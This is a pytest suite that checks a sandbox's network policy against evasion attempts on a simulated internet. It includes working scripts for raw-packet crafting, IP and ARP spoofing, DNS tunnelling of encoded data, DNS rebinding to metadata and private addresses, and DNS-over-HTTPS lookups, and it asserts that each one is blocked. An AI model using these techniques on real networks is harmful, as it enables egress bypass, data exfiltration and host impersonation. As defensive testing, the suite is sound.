# SPDX-License-Identifier: Apache-2.0
# Part of sprite-env.
"""Ways around a network policy, one a test: none gets through. The internet is our own, in a network namespace."""

import socket
import subprocess
from collections.abc import Callable

import pytest

from support.api import Api
from support.daemon import Daemon
from support.exec import run, shell
from support.internet import ALLOWED, DENIED, METADATA, OTHER_RESOLVER, PRIVATE, RESOLVER, Internet
from support.policy import *  # noqa: F403  (fixtures)
from support.policy import REFUSED, address_of, allow, ask, connect, contacts, python, set_policy
from support.wait import eventually


def test_ip_literal(api: Api, restricted: str) -> None:
    assert connect(api, restricted, DENIED).startswith("failed")
    assert connect(api, restricted, ALLOWED).startswith("failed"), "no allowed name was asked for yet"


def test_ipv6_literal(api: Api, daemon: Daemon, restricted: str) -> None:
    assert connect(api, restricted, "2001:db8::1").startswith("failed")
    # Written by hand onto the wire: past the missing route.
    script = """
import socket
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind(("eth0", 0))
mac = bytes.fromhex(open("/sys/class/net/eth0/address").read().strip().replace(":", ""))
s.send(b"\\xff" * 6 + mac + b"\\x86\\xdd" + b"\\x60" + bytes(3) + b"\\0\\x08\\x3a\\x40" + bytes(15) + b"\\1" + bytes(15) + b"\\2" + bytes(8))
print("sent")
"""
    arrived = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x86DD))
    arrived.bind((f"spr{daemon.tag}", 0))
    arrived.settimeout(0.5)
    with arrived:
        assert python(api, restricted, script) == "sent"
        with pytest.raises(TimeoutError):
            arrived.recv(2000)


def test_dns_over_tcp(api: Api, restricted: str) -> None:
    assert ask(api, restricted, "allowed.test", transport="tcp") == "code 0 answers 1 cut 0"
    assert ask(api, restricted, "denied.test", transport="tcp") == REFUSED


def test_dns_tunnelling_by_long_names(api: Api, sprite: str, internet: Internet) -> None:
    set_policy(api, sprite, allow("*.tunnel.test"))
    # A denied zone carries nothing at all.
    ask(api, sprite, "c2VjcmV0.denied.test")
    assert not internet.seen("question", "c2vjcmv0", wait=0.3)
    script = """
import socket, struct, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(0.5)
passed = 0
for i in range(120):
    label = ("%03d" % i) + "a" * 57
    name = label + "." + label + ".tunnel.test"
    e = b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\\0"
    s.sendto(struct.pack("!HHHHHH", i, 0x0100, 1, 0, 0, 0) + e + struct.pack("!HH", 1, 1), (sys.argv[1], 53))
    try: passed += s.recv(4096)[3] & 15 == 0
    except OSError: pass
print(passed)
"""
    assert int(python(api, sprite, script, RESOLVER)) <= 12
    # The one question by a single label of 60 and the like: names are counted as they arrive outside.
    assert len({entry["text"] for entry in internet.seen("question", "aaaa", wait=0.2)}) <= 12
    assert any(contact.get("reason") == "flood" for contact in contacts(api, sprite) if not contact["allowed"])


def test_dns_tunnelling_by_odd_record_types(api: Api, sprite: str, internet: Internet) -> None:
    set_policy(api, sprite, allow("*.tunnel.test"))
    for kind in (10, 255, 252, 65280):
        assert ask(api, sprite, f"odd{kind}.tunnel.test", kind=kind) == REFUSED
    assert not internet.seen("question", "odd", wait=0.2)


def test_second_resolver(api: Api, restricted: str, internet: Internet) -> None:
    for transport in ("udp", "tcp"):
        assert ask(api, restricted, "denied.test", server=OTHER_RESOLVER, transport=transport) == REFUSED
        # Whoever is asked, the guard answers.
        assert ask(api, restricted, "allowed.test", server=OTHER_RESOLVER, transport=transport).startswith("code 0")
    asked = [entry for entry in internet.seen("question", "test", wait=0.2) if entry["server"] == OTHER_RESOLVER]
    assert not asked
    assert connect(api, restricted, OTHER_RESOLVER, 853).startswith("failed")


def test_dns_over_https_of_an_allowed_host(api: Api, restricted: str) -> None:
    script = """
import socket
s = socket.create_connection(("allowed.test", 443), 4)
s.sendall(b"GET /dns-query?name=denied.test HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n")
print(s.recv(4096).split()[-1].decode())
"""
    address = python(api, restricted, script)
    assert address == DENIED, "the allowed host tells the address"
    assert connect(api, restricted, address).startswith("failed"), "and it leads nowhere"


@pytest.mark.parametrize("target", [PRIVATE, METADATA, "127.0.0.1", "10.64.0.1", "0.0.0.0", "192.168.1.1"])
def test_rebinding_to_a_private_address(api: Api, sprite: str, internet: Internet, target: str) -> None:
    set_policy(api, sprite, allow("rebind.test"))
    assert connect(api, sprite, "rebind.test") == f"hello from {ALLOWED}"
    internet.set_zone({"rebind.test": [["A", target]]})
    assert ask(api, sprite, "rebind.test") == REFUSED
    internet.set_zone({"rebind.test": [["A", ALLOWED], ["A", target]]})
    assert ask(api, sprite, "rebind.test") == REFUSED, "one bad address spoils the answer"
    assert connect(api, sprite, target, timeout=2).startswith("failed")
    assert any(contact.get("reason") == "rebinding" for contact in contacts(api, sprite))


def test_cname_to_a_denied_name(api: Api, sprite: str) -> None:
    rules = [*allow("alias.test", "cdn-user.test"), {"domain": "denied.test", "action": "deny"}]
    set_policy(api, sprite, rules)
    assert ask(api, sprite, "alias.test") == REFUSED
    assert connect(api, sprite, DENIED).startswith("failed")
    # One that no rule names is where the owner of the allowed name keeps it: most large sites are reached that way.
    assert connect(api, sprite, "cdn-user.test") == f"hello from {ALLOWED}"


def test_addresses_of_other_names_in_an_answer(api: Api, sprite: str, internet: Internet) -> None:
    # An allowed name's owner slips in a record that does not belong to the chain: the answer is not passed on.
    internet.set_zone({"allowed.test": [["A", ALLOWED], ["CNAME", "denied.test"], ["A", DENIED]]})
    set_policy(api, sprite, [*allow("allowed.test"), {"domain": "denied.test", "action": "deny"}])
    assert ask(api, sprite, "allowed.test") == REFUSED
    assert connect(api, sprite, DENIED).startswith("failed")


def test_raw_sockets(api: Api, restricted: str, internet: Internet) -> None:
    script = """
import socket, struct, subprocess, sys
target, own = sys.argv[1:3]
data = b"raw-" + sys.argv[3].encode()
udp = struct.pack("!HHHH", 9998, 9999, 8 + len(data), 0) + data
def header():
    h = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0, socket.inet_aton(own), socket.inet_aton(target))
    c = sum(struct.unpack("!10H", h)); c = (c >> 16) + (c & 0xffff); c += c >> 16
    return h[:10] + struct.pack("!H", ~c & 0xffff) + h[12:]
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
try: s.sendto(header() + udp, (target, 0))
except OSError as e: print(e)
gateway = [l.split()[3] for l in open("/proc/net/arp") if "eth0" in l]
mac = bytes.fromhex(open("/sys/class/net/eth0/address").read().strip().replace(":", ""))
p = socket.socket(socket.AF_PACKET, socket.SOCK_RAW); p.bind(("eth0", 0))
for g in gateway + ["ff:ff:ff:ff:ff:ff"]:
    p.send(bytes.fromhex(g.replace(":", "")) + mac + b"\\x08\\x00" + header() + udp)
print("sent")
"""
    own = shell(api, restricted, "hostname -I 2>/dev/null || ip -4 -o a s eth0 | awk '{print $4}' | cut -d/ -f1").strip()
    connect(api, restricted, "allowed.test")
    assert python(api, restricted, script, ALLOWED, own, "control").endswith("sent")
    eventually(lambda: internet.seen("data", "raw-control"), "the same to an allowed address arrives")
    python(api, restricted, script, DENIED, own, "attack")
    assert not internet.seen("data", "raw-attack", wait=0.5)


def test_icmp_and_other_protocols(api: Api, restricted: str) -> None:
    assert run(api, restricted, "ping", "-c1", "-W1", DENIED, timeout=15).code != 0
    connect(api, restricted, "allowed.test")
    assert run(api, restricted, "ping", "-c1", "-W2", ALLOWED, timeout=15).code == 0


def test_source_address_spoofing(api: Api, new_sprite: Callable[..., str], internet: Internet) -> None:
    one, other = new_sprite(), new_sprite()
    set_policy(api, one, allow("allowed.test"))
    stolen = address_of(api, other)
    script = """
import socket, struct, sys
target, source = sys.argv[1:3]
data = b"spoofed"
udp = struct.pack("!HHHH", 9998, 9999, 8 + len(data), 0) + data
h = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0, socket.inet_aton(source), socket.inet_aton(target))
c = sum(struct.unpack("!10H", h)); c = (c >> 16) + (c & 0xffff); c += c >> 16
packet = h[:10] + struct.pack("!H", ~c & 0xffff) + h[12:] + udp
own = bytes.fromhex(open("/sys/class/net/eth0/address").read().strip().replace(":", ""))
theirs = b"\\x02\\x02" + socket.inet_aton(source)
p = socket.socket(socket.AF_PACKET, socket.SOCK_RAW); p.bind(("eth0", 0))
gateways = [l.split()[3] for l in open("/proc/net/arp") if "eth0" in l]
for g in gateways + ["ff:ff:ff:ff:ff:ff"]:
    for mac in (own, theirs): p.send(bytes.fromhex(g.replace(":", "")) + mac + b"\\x08\\x00" + packet)
print("sent")
"""
    connect(api, one, "allowed.test")
    assert python(api, one, script, DENIED, stolen) == "sent"
    assert not internet.seen("data", "spoofed", wait=0.5), "an unrestricted neighbour's address opens nothing"


def test_arp_and_neighbour_spoofing_between_sprites(api: Api, daemon: Daemon, new_sprite: Callable[..., str]) -> None:
    one, other = new_sprite(), new_sprite()
    victim = address_of(api, other)
    assert connect(api, other, "allowed.test") == f"hello from {ALLOWED}"
    script = """
import socket, sys
own = bytes.fromhex(open("/sys/class/net/eth0/address").read().strip().replace(":", ""))
victim = socket.inet_aton(sys.argv[1]); theirs = b"\\x02\\x02" + victim
mine = socket.inet_aton(sys.argv[2])
p = socket.socket(socket.AF_PACKET, socket.SOCK_RAW); p.bind(("eth0", 0))
broadcast = b"\\xff" * 6
for operation in (1, 2):
    head = b"\\x00\\x01\\x08\\x00\\x06\\x04\\x00" + bytes([operation])
    for sender in (own, theirs):
        for claimed in (own, theirs):
            for address in (victim, mine):
                if (sender, claimed, address) == (own, own, mine): continue
                p.send(broadcast + sender + b"\\x08\\x06" + head + claimed + address + broadcast + victim)
p.send(broadcast + theirs + b"\\x86\\xdd" + bytes(60))
p.send(broadcast + theirs + b"\\x81\\x00\\x00\\x01\\x08\\x06" + bytes(60))
print("sent")
"""
    for _ in range(3):
        assert python(api, one, script, victim, address_of(api, one)) == "sent"
    theirs = "02:02:" + ":".join(f"{int(part):02x}" for part in victim.split("."))
    bridge = f"spr{daemon.tag}"
    table = subprocess.run(["bridge", "fdb", "show", "br", bridge], capture_output=True, text=True).stdout
    offset = victim.split(".")
    port = f"spv{daemon.tag}{(int(offset[2]) % 16) * 256 + int(offset[3]):03x}"
    for line in table.splitlines():
        if line.startswith(theirs):
            assert f"dev {port} " in line, line
    neighbours = subprocess.run(["ip", "neigh", "show", victim, "dev", bridge], capture_output=True, text=True).stdout
    assert not neighbours.strip() or theirs in neighbours or "FAILED" in neighbours
    assert connect(api, other, "allowed.test") == f"hello from {ALLOWED}", "the victim's answers still reach it"


def test_conntrack_of_old_connections(api: Api, sprite: str, internet: Internet) -> None:
    script = """
import socket, time
def server(address, kind=socket.SOCK_STREAM, port=80):
    s = socket.socket(socket.AF_INET, kind); s.settimeout(4); s.connect((address, port)); return s
import sys
kept, cut, udp = server(sys.argv[1]), server(sys.argv[2]), server(sys.argv[2], socket.SOCK_DGRAM, 9999)
kept.recv(100); cut.recv(100)
udp.send(b"before"); assert udp.recv(100) == b"before"
open("/tmp/ready", "w")
while True:
    try: open("/tmp/go")
    except OSError: time.sleep(0.05); continue
    break
def talk(s, data):
    try:
        s.send(data)
        return s.recv(100) == data
    except OSError as e: return type(e).__name__
print(talk(kept, b"still"), talk(cut, b"tcp-after"), talk(udp, b"udp-after"))
"""
    set_policy(api, sprite, [])
    assert connect(api, sprite, "allowed.test") == f"hello from {ALLOWED}"
    shell(api, sprite, "cat > /tmp/hold.py <<'END'\n" + script + "\nEND")
    shell(api, sprite, f"setsid -f python3 /tmp/hold.py {ALLOWED} {DENIED} </dev/null >/tmp/out 2>&1")
    eventually(lambda: run(api, sprite, "test", "-e", "/tmp/ready").code == 0, "connections are open")
    set_policy(api, sprite, allow("allowed.test"))
    # What is allowed is known by asking for its name.
    assert ask(api, sprite, "allowed.test").startswith("code 0")
    shell(api, sprite, "touch /tmp/go")
    eventually(lambda: shell(api, sprite, "cat /tmp/out").strip() or None, "the connections were tried")
    words = shell(api, sprite, "cat /tmp/out").split()
    assert words[0] == "True", words
    assert words[1] != "True" and words[2] != "True", words
    assert not internet.seen("data", "-after", wait=0.3)


def test_a_connection_that_the_new_policy_allows_goes_on(api: Api, restricted: str) -> None:
    set_policy(api, restricted, allow("allowed.test", "denied.test"))
    script = """
import socket, sys, time
a, d = (socket.create_connection((n, 80), 4) for n in ("allowed.test", "denied.test"))
a.recv(100); d.recv(100)
open("/tmp/ready", "w")
while True:
    try: open("/tmp/go")
    except OSError: time.sleep(0.05); continue
    break
r = []
for s in (a, d):
    s.settimeout(4)
    try: s.send(b"x"); r.append(s.recv(10) == b"x")
    except OSError as e: r.append(type(e).__name__)
print(*r)
"""
    shell(api, restricted, "cat > /tmp/hold.py <<'END'\n" + script + "\nEND")
    shell(api, restricted, "setsid -f python3 /tmp/hold.py </dev/null >/tmp/out 2>&1")
    eventually(lambda: run(api, restricted, "test", "-e", "/tmp/ready").code == 0, "connections are open")
    set_policy(api, restricted, allow("allowed.test"))
    shell(api, restricted, "touch /tmp/go")
    eventually(lambda: shell(api, restricted, "cat /tmp/out").strip() or None, "the connections were tried")
    words = shell(api, restricted, "cat /tmp/out").split()
    assert words[0] == "True" and words[1] != "True", words


@pytest.mark.parametrize("policy", [[], allow("*"), allow("metadata.test"), allow(METADATA), allow("*", METADATA, PRIVATE)])
def test_metadata_address(api: Api, sprite: str, policy: list[dict[str, str]]) -> None:
    set_policy(api, sprite, policy)
    assert connect(api, sprite, METADATA, timeout=2).startswith("failed")
    assert connect(api, sprite, "metadata.test", timeout=2).startswith("failed")
    assert connect(api, sprite, PRIVATE, timeout=2).startswith("failed"), "and so are private networks"


def is_open(port: int) -> bool:
    """Of the host, as the host sees it."""
    with socket.socket() as client:
        return client.connect_ex(("127.0.0.1", port)) == 0


@pytest.mark.parametrize("policy", [[], allow("*")])
def test_the_hosts_api_port_from_inside(api: Api, sprite: str, policy: list[dict[str, str]]) -> None:
    set_policy(api, sprite, policy)
    port = int(api.url.rsplit(":", 1)[1])
    gateway = shell(api, sprite, "ip route | awk '/default/ {print $3}'").strip()
    server = subprocess.Popen(["python3", "-m", "http.server", "--bind", "0.0.0.0", "18080"], stderr=subprocess.DEVNULL)
    try:
        for listening in (port, 18080):
            eventually(lambda number=listening: is_open(number), f"the host listens on {listening}")
        for address in (gateway, "198.51.100.1", "127.0.0.1"):
            assert connect(api, sprite, address, port, timeout=2).startswith("failed")
            assert connect(api, sprite, address, 18080, timeout=2).startswith("failed")
    finally:
        server.kill()
        server.wait()


@pytest.mark.parametrize("policy", [[], allow("*")])
def test_other_sprites_ports(api: Api, new_sprite: Callable[..., str], policy: list[dict[str, str]]) -> None:
    one, other = new_sprite(), new_sprite()
    set_policy(api, one, policy)
    listen = "import socket, time\ns = socket.socket(); s.bind(('0.0.0.0', 9000)); s.listen(); time.sleep(60)"
    shell(api, other, f'setsid -f python3 -c "{listen}" </dev/null >/dev/null 2>&1; sleep 0.3')
    assert connect(api, other, "127.0.0.1", 9000) == "connected", "it listens and says nothing"
    assert connect(api, one, address_of(api, other), 9000, timeout=2).startswith("failed")
